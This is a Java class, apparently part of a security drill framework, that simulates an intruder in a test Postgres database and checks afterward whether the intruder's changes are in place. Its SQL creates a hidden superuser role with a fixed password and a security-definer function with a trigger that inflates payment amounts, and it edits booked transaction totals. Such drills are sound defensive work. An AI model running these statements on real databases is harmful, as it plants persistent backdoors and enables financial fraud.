package processpilot;

import dev.drillbook.fault.Bite;
import dev.drillbook.site.Postgres;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;

/**
 * Somebody who got hold of tokens and of the database, changed a booking, and wants to come back:
 * by a role, by a function that runs with its owner's rights, and by a trigger that calls it.
 */
record Intruder(Postgres database) {
  static final String[] STOLEN_TOKENS = {"pp-seed-token-1", "pp-seed-token-2", "pp-seed-token-3"};
  static final String ROLE = "pp_support";
  static final String FUNCTION = "normalise_amount";

  void breakIn() throws SQLException {
    try (Connection connection = database.administer(database.database());
        Statement statement = connection.createStatement()) {
      connection.setAutoCommit(false);
      statement.execute("create role " + ROLE + " login superuser password 'let-me-in-again'");
      statement.execute(
          "create function public."
              + FUNCTION
              + "() returns trigger language plpgsql security definer as $$"
              + " begin if new.ref like 'pay-me%' then new.amount := 999999.99; end if; return new; end $$");
      statement.execute(
          "create trigger transactions_normalise before insert on public.transactions"
              + " for each row execute function public."
              + FUNCTION
              + "()");
      statement.execute(
          "update public.transactions set amount = amount + 1000 where ref = 'seed-1-1'");
      statement.execute(
          "update public.processes set total_amount = total_amount + 1000 where ref = 'seed-1'");
      connection.commit();
    }
  }

  Bite look() throws SQLException {
    try (Connection connection = database.administer(database.database());
        Statement statement = connection.createStatement();
        ResultSet row =
            statement.executeQuery(
                "select (select count(*) from pg_roles where rolname = '"
                    + ROLE
                    + "' and rolsuper), (select count(*) from pg_trigger where tgname = 'transactions_normalise'),"
                    + " (select count(*) from pg_proc where proname = '"
                    + FUNCTION
                    + "' and prosecdef)")) {
      row.next();
      boolean planted = row.getInt(1) == 1 && row.getInt(2) == 1 && row.getInt(3) == 1;
      return new Bite(
          planted, "role, trigger and function are " + (planted ? "" : "not all ") + "there");
    }
  }
}
